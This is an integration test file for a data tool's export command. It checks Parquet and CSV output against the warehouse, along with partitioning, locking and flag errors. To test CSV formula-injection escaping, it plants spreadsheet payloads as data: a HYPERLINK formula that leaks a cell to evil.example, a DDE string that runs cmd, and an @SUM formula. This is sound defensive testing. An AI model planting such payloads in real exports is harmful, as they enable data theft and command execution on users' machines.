/**
 * `geo-sync export` through the real command line, from a DuckDB file and from
 * PostgreSQL filled by a real sync of the simulator. The files are read back with DuckDB's
 * read_parquet / read_csv and compared row for row with the warehouse.
 */
import { spawn } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openEngine } from '../../src/export/engine.ts';
import { DAY_RULES } from '../../src/export/tables.ts';
import { DATA_TABLES } from '../../src/load/warehouse.ts';
import { startSimulator, type RunningSimulator } from '../../src/simulator/index.ts';
import { runCli } from '../helpers/cli.ts';
import { createTempDuckDB, type TempDuckDB } from '../helpers/duckdb.ts';
import { syncOnce, withWarehouse } from '../helpers/sync.ts';
import { warehouseTargets } from '../helpers/targets.ts';
import { killOnExit } from '../helpers/children.ts';

/** Each table's key: the order both sides are compared in. */
const KEYS: Record<(typeof DATA_TABLES)[number], string> = {
  monitoring_tasks: 'project_id',
  platform_tasks: 'task_id',
  prompt_executions: 'prompt_task_id',
  execution_ranks: 'prompt_task_id, ordinal',
  execution_sources: 'source_id',
  execution_screenshots: 'prompt_task_id',
  execution_products: 'prompt_task_id',
  product_cards: 'prompt_task_id, position',
  site_diagnoses: 'diagnosis_id',
  balance_snapshots: 'taken_at',
  deductions: 'id',
};

/** The day each partitioned table's rows belong to, as warehouse SQL (same in both dialects). */
const DAY_OF: Partial<Record<(typeof DATA_TABLES)[number], string>> = {
  prompt_executions:
    'SELECT prompt_task_id AS k, CAST(date_time AS VARCHAR) AS day FROM geo.prompt_executions',
  execution_ranks:
    'SELECT DISTINCT r.prompt_task_id AS k, CAST(e.date_time AS VARCHAR) AS day FROM geo.execution_ranks r JOIN geo.prompt_executions e ON e.prompt_task_id = r.prompt_task_id',
};

const glob = (dir: string, table: string, ext: string) => `${dir}/${table}/**/*.${ext}`;

const FORMULA_ANSWER = '=HYPERLINK("https://evil.example/?leak="&A1,"open")';

for (const target of warehouseTargets('export')) {
  describe.skipIf(target.skip)(`export from ${target.dialect}`, () => {
    let sim: RunningSimulator;
    let url: string;
    let days: string[];
    let out: string;
    let reader: TempDuckDB;
    let env: Record<string, string>;

    beforeAll(async () => {
      url = await target.create();
      // 20 a day: product cards on at least one of the two days whatever the day (at 15, one
      // day in 400 drew none; a day without cards has no product_cards partition, which the tests
      // below allow for).
      sim = await startSimulator({ seed: 11, days: 2, executionsPerDay: 20 });
      days = sim.world.dates();
      // Text a spreadsheet would run as a formula, stored like any other.
      const [first, second] = sim.world
        .allPlatformTasks()
        .flatMap((t) => days.flatMap((d) => [...sim.world.executions(t.task_id, d)]));
      sim.world.mutations.setAnswer(first!.prompt_task_id, FORMULA_ANSWER);
      sim.world.mutations.setAnswer(second!.prompt_task_id, "-2+3+cmd|' /C calc'!A0");
      sim.world.mutations.renameMonitoringTask(first!.project_id, '@SUM(1+1)');
      await syncOnce({ baseUrl: sim.url, target: url, dates: days });
      out = mkdtempSync(join(tmpdir(), 'geo-export-'));
      reader = createTempDuckDB('export-reader');
      env = { GEO_WAREHOUSE: url };
    }, 60_000);
    afterAll(async () => {
      await sim?.close();
      await target.drop();
      rmSync(out, { recursive: true, force: true });
      reader?.remove();
    });

    const warehouseRows = (sql: string, params: string[] = []) =>
      withWarehouse(url, (w) => w.query(sql, params));
    /** Files read back through a DuckDB warehouse's query(): the same value conversion as query(). */
    const fileRows = (sql: string) => withWarehouse(reader.target, (w) => w.query(sql));

    it('writes every table, hive-partitioned by day, and reads back row for row', async () => {
      const dir = join(out, 'all');
      const r = await runCli(['export', '--format', 'parquet', '--out', dir], env);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).toContain(`exported ${DATA_TABLES.length} table(s) as parquet`);
      expect(readdirSync(join(dir, 'prompt_executions')).sort()).toEqual(days.map((d) => `day=${d}`));
      expect(
        readdirSync(dir)
          .filter((n) => !n.startsWith('.'))
          .sort(),
      ).toEqual([...DATA_TABLES].sort());

      for (const table of DATA_TABLES) {
        const expected = await warehouseRows(`SELECT * FROM geo.${table} ORDER BY ${KEYS[table]}`);
        // A day-partitioned table's files carry its day as a hive key, not as a column. (Not told by
        // the first day's folder: a day without product cards has none.)
        const partitioned = DAY_RULES[table] !== null;
        const files = await fileRows(
          `SELECT * ${partitioned ? 'EXCLUDE (day)' : ''} FROM read_parquet('${glob(dir, table, 'parquet')}', hive_partitioning = true) ORDER BY ${KEYS[table]}`,
        );
        expect(files.length, table).toBe(expected.length);
        expect(files, table).toEqual(expected);
      }
      expect((await warehouseRows('SELECT count(*) AS n FROM geo.prompt_executions'))[0]!.n).toBeGreaterThan(
        0,
      );
      expect((await warehouseRows('SELECT count(*) AS n FROM geo.deductions'))[0]!.n).toBeGreaterThan(0);

      // The partition a row lands in is its (execution's) day.
      for (const [table, sql] of Object.entries(DAY_OF)) {
        const expected = await warehouseRows(`${sql} ORDER BY k`);
        const got = await fileRows(
          `SELECT DISTINCT prompt_task_id AS k, CAST(day AS VARCHAR) AS day FROM read_parquet('${glob(dir, table, 'parquet')}', hive_partitioning = true) ORDER BY k`,
        );
        expect(got, table).toEqual(expected);
      }
      const deductionDays = await warehouseRows(
        `SELECT id, CAST(CAST(created_at AT TIME ZONE 'Asia/Shanghai' AS DATE) AS VARCHAR) AS day FROM geo.deductions ORDER BY id`,
      ).catch(async () =>
        warehouseRows(
          `SELECT id, CAST(CAST(timezone('Asia/Shanghai', created_at) AS DATE) AS VARCHAR) AS day FROM geo.deductions ORDER BY id`,
        ),
      );
      expect(
        await fileRows(
          `SELECT id, CAST(day AS VARCHAR) AS day FROM read_parquet('${glob(dir, 'deductions', 'parquet')}', hive_partitioning = true) ORDER BY id`,
        ),
      ).toEqual(deductionDays);
    });

    // The CSV files hold what the Parquet files hold (proven equal to the warehouse above): an
    // empty string is written as "" and NULL as nothing, so read it with allow_quoted_nulls = false.
    it('writes CSV with a header that reads back as the same rows', async () => {
      const csv = join(out, 'csv');
      const parquet = join(out, 'all');
      const r = await runCli(['export', '--format', 'csv', '--out', csv], env);
      expect(r.code, r.stderr).toBe(0);
      for (const table of ['prompt_executions', 'execution_sources', 'monitoring_tasks', 'deductions']) {
        // Ordered by the key's value: the selected columns are text.
        const key = KEYS[table as keyof typeof KEYS].replace(/(\w+)/g, 'CAST($1 AS BIGINT)');
        const fromCsv = await fileRows(
          `SELECT COLUMNS(*)::VARCHAR FROM read_csv('${glob(csv, table, 'csv')}', hive_partitioning = true, all_varchar = true, header = true, allow_quoted_nulls = false) ORDER BY ${key}`,
        );
        const fromParquet = await fileRows(
          `SELECT COLUMNS(*)::VARCHAR FROM read_parquet('${glob(parquet, table, 'parquet')}', hive_partitioning = true) ORDER BY ${key}`,
        );
        expect(fromCsv.length, table).toBeGreaterThan(0);
        expect(fromCsv.length, table).toBe(fromParquet.length);
        fromCsv.forEach((row, i) => expect(row, `${table} row ${i}`).toEqual(fromParquet[i]));
      }
    });

    // CSV stays exact by default (a lake needs the values as stored, and says so
    // in a note); --csv-safe prefixes with ' every text cell a spreadsheet would run, nothing else.
    it('--csv-safe prefixes text cells a spreadsheet would run as formulas, and nothing else', async () => {
      const tables = 'prompt_executions,monitoring_tasks,deductions';
      const plain = join(out, 'csv-plain');
      const safe = join(out, 'csv-safe');
      const p = await runCli(['export', '--format', 'csv', '--out', plain, '--tables', tables], env);
      expect(p.code, p.stderr).toBe(0);
      expect(p.stderr).toContain('a spreadsheet runs a cell beginning with =, +, - or @ as a formula');
      const r = await runCli(
        ['export', '--format', 'csv', '--csv-safe', '--out', safe, '--tables', tables],
        env,
      );
      expect(r.code, r.stderr).toBe(0);
      expect(r.stderr).not.toContain('note:');

      const read = (dir: string, table: string, key: string) =>
        fileRows(
          `SELECT COLUMNS(*)::VARCHAR FROM read_csv('${glob(dir, table, 'csv')}', hive_partitioning = true, all_varchar = true, header = true, allow_quoted_nulls = false) ORDER BY CAST(${key} AS BIGINT)`,
        );
      const text = new Set(['answer', 'think', 'prompt_name', 'project_name', 'remark', 'brand_exposure']);
      let prefixed = 0;
      for (const [table, key] of [
        ['prompt_executions', 'prompt_task_id'],
        ['monitoring_tasks', 'project_id'],
        ['deductions', 'id'],
      ] as const) {
        const before = await read(plain, table, key);
        const after = await read(safe, table, key);
        expect(after.length, table).toBe(before.length);
        before.forEach((row, i) => {
          for (const [column, value] of Object.entries(row)) {
            const got = after[i]![column];
            if (typeof value === 'string' && /^[=+\-@\t\r]/.test(value) && text.has(column)) {
              expect(got, `${table}.${column}`).toBe(`'${value}`);
              prefixed++;
            } else expect(got, `${table}.${column}`).toBe(value);
          }
        });
      }
      // The three planted above (the answers, the name), and a negative amount left a number.
      expect(prefixed).toBeGreaterThanOrEqual(3);
      const answers = (await read(safe, 'prompt_executions', 'prompt_task_id')).map((r) => r.answer);
      expect(answers).toContain(`'${FORMULA_ANSWER}`);
      expect(answers).toContain("'-2+3+cmd|' /C calc'!A0");
      const names = (await read(safe, 'monitoring_tasks', 'project_id')).map((r) => r.project_name);
      expect(names).toContain("'@SUM(1+1)");
      const amounts = (await read(safe, 'deductions', 'id')).map((r) => String(r.diff_amount));
      expect(amounts.some((a) => a.startsWith('-'))).toBe(true);
    });

    it('re-exporting days replaces exactly those days', async () => {
      const dir = join(out, 'all');
      const [first, second] = days as [string, string];
      const before = readdirSync(join(dir, 'prompt_executions', `day=${second}`));
      // A day in the range the warehouse has no rows for (any more): its folder must go.
      const gone = '2020-01-01';
      cpSync(join(dir, 'prompt_executions', `day=${first}`), join(dir, 'prompt_executions', `day=${gone}`), {
        recursive: true,
      });
      const oldFirst = readdirSync(join(dir, 'prompt_executions', `day=${first}`));

      const r = await runCli(
        ['export', '--format', 'parquet', '--out', dir, '--from', gone, '--to', first],
        env,
      );
      expect(r.code, r.stderr).toBe(0);
      expect(existsSync(join(dir, 'prompt_executions', `day=${gone}`))).toBe(false);
      const newFirst = readdirSync(join(dir, 'prompt_executions', `day=${first}`));
      expect(newFirst.some((f) => oldFirst.includes(f))).toBe(false);
      expect(readdirSync(join(dir, 'prompt_executions', `day=${second}`))).toEqual(before);
      // No duplicates: the files hold exactly the warehouse's rows.
      const expected = await warehouseRows('SELECT * FROM geo.prompt_executions ORDER BY prompt_task_id');
      expect(
        await fileRows(
          `SELECT * EXCLUDE (day) FROM read_parquet('${glob(dir, 'prompt_executions', 'parquet')}', hive_partitioning = true) ORDER BY prompt_task_id`,
        ),
      ).toEqual(expected);
    });

    it('--tables and --from/--to choose what is written', async () => {
      const dir = join(out, 'some');
      // The later day that holds product cards: 20 executions may draw none on a given day (the
      // world changes with the calendar day), and a day without cards has no partition to show.
      const [withCards] = await warehouseRows(
        `SELECT CAST(max(e.date_time) AS VARCHAR) AS day FROM geo.product_cards c
         JOIN geo.prompt_executions e ON e.prompt_task_id = c.prompt_task_id`,
      );
      if (withCards?.day == null) throw new Error("this day's world has no product cards on either day");
      const day = String(withCards.day);
      expect(days).toContain(day);
      const r = await runCli(
        [
          'export',
          '--format',
          'parquet',
          '--out',
          dir,
          '--tables',
          'product_cards,platform_tasks,prompt_executions',
          '--from',
          day,
          '--to',
          day,
        ],
        env,
      );
      expect(r.code, r.stderr).toBe(0);
      expect(
        readdirSync(dir)
          .filter((n) => !n.startsWith('.'))
          .sort(),
      ).toEqual(['platform_tasks', 'product_cards', 'prompt_executions']);
      expect(readdirSync(join(dir, 'product_cards'))).toEqual([`day=${day}`]);
      // Every day has executions: the range is seen to choose even when the other day has no cards.
      expect(readdirSync(join(dir, 'prompt_executions'))).toEqual([`day=${day}`]);
      const expected = await warehouseRows(
        `SELECT c.* FROM geo.product_cards c JOIN geo.prompt_executions e ON e.prompt_task_id = c.prompt_task_id
          WHERE e.date_time = CAST($1 AS DATE) ORDER BY c.prompt_task_id, c.position`,
        [day],
      );
      expect(expected.length).toBeGreaterThan(0);
      expect(
        await fileRows(
          `SELECT * EXCLUDE (day) FROM read_parquet('${glob(dir, 'product_cards', 'parquet')}', hive_partitioning = true) ORDER BY prompt_task_id, position`,
        ),
      ).toEqual(expected);
    });
  });
}

describe('export while another process has the DuckDB file open for writing', () => {
  it(
    'exits 4 (locked), naming the holder, like sync does (which alone can wait for it)',
    { timeout: 30_000 },
    async () => {
      const db = createTempDuckDB('export-locked');
      const out = mkdtempSync(join(tmpdir(), 'geo-export-locked-'));
      // A writer (a sync, a BI tool) holds the file: DuckDB allows one writer per file.
      const script = `
      import { DuckDBInstance } from '@duckdb/node-api';
      const db = await DuckDBInstance.create(process.argv[1]);
      const c = await db.connect();
      await c.run('CREATE TABLE t (a INTEGER)');
      process.stdout.write('held\\n');
      setTimeout(() => process.exit(0), 60000);`;
      const holder = killOnExit(
        spawn(process.execPath, ['--input-type=module', '-e', script, db.path], {
          stdio: ['ignore', 'pipe', 'inherit'],
        }),
      );
      try {
        await new Promise<void>((resolve) => holder.stdout!.once('data', () => resolve()));
        // sync can wait for the file, so it says how (one retry of 0 s: it does not wait here).
        const sync = await runCli(['sync', '--wait-for-lock', '0', '--no-progress'], {
          GEO_WAREHOUSE: db.target,
          GEO_BASE_URL: 'http://127.0.0.1:9',
          GEO_API_KEY: 'k',
        });
        expect(sync.code, sync.stderr).toBe(4);
        expect(sync.stderr).toContain('(use --wait-for-lock to wait)');

        const r = await runCli(['export', '--format', 'csv', '--out', out], { GEO_WAREHOUSE: db.target });
        expect(r.code, r.stderr).toBe(4);
        expect(r.stderr).toMatch(new RegExp(`another process has the warehouse open: process ${holder.pid}`));
        // export has no --wait-for-lock to suggest.
        expect(r.stderr).not.toContain('--wait-for-lock');
        expect(r.stderr).toContain('run it again once that process is done');
      } finally {
        holder.kill('SIGKILL');
        rmSync(out, { recursive: true, force: true });
        db.remove();
      }
    },
  );
});

describe('export flags', () => {
  const env = { GEO_WAREHOUSE: 'duckdb:/nonexistent/never-opened.duckdb' };
  it.each([
    [['--format', 'xml', '--out', '/tmp/x'], /--format.*invalid.*parquet, csv/],
    [['--out', '/tmp/x'], /required option '--format/],
    [['--format', 'csv'], /required option '--out/],
    [
      ['--format', 'csv', '--out', '/tmp/x', '--tables', 'prompt_executions,nope'],
      /--tables: unknown table\(s\) nope; choose from monitoring_tasks,/,
    ],
    [
      ['--format', 'csv', '--out', '/tmp/x', '--from', '2026-11-02', '--to', '2026-11-01'],
      /--from 2026-11-02 is after --to 2026-11-01/,
    ],
    [['--format', 'csv', '--out', '/tmp/x', '--from', '2026-13-01'], /expected a day as YYYY-MM-DD/],
    [['--format', 'parquet', '--out', '/tmp/x', '--csv-safe'], /--csv-safe applies to --format csv only/],
  ])('%j exits 2 with one clear line', async (args, message) => {
    const r = await runCli(['export', ...args], env);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(message);
    expect(
      r.stderr
        .trim()
        .split('\n')
        .filter((l) => !l.startsWith('(run with --help')).length,
    ).toBe(1);
  });

  it('the export engine never installs or auto-loads an extension', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'geo-engine-'));
    const engine = await openEngine(dir);
    try {
      const r = await engine.connection.runAndReadAll(
        `SELECT current_setting('autoinstall_known_extensions') AS install, current_setting('autoload_known_extensions') AS load`,
      );
      expect(r.getRowObjectsJson()).toEqual([{ install: false, load: false }]);
    } finally {
      engine.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
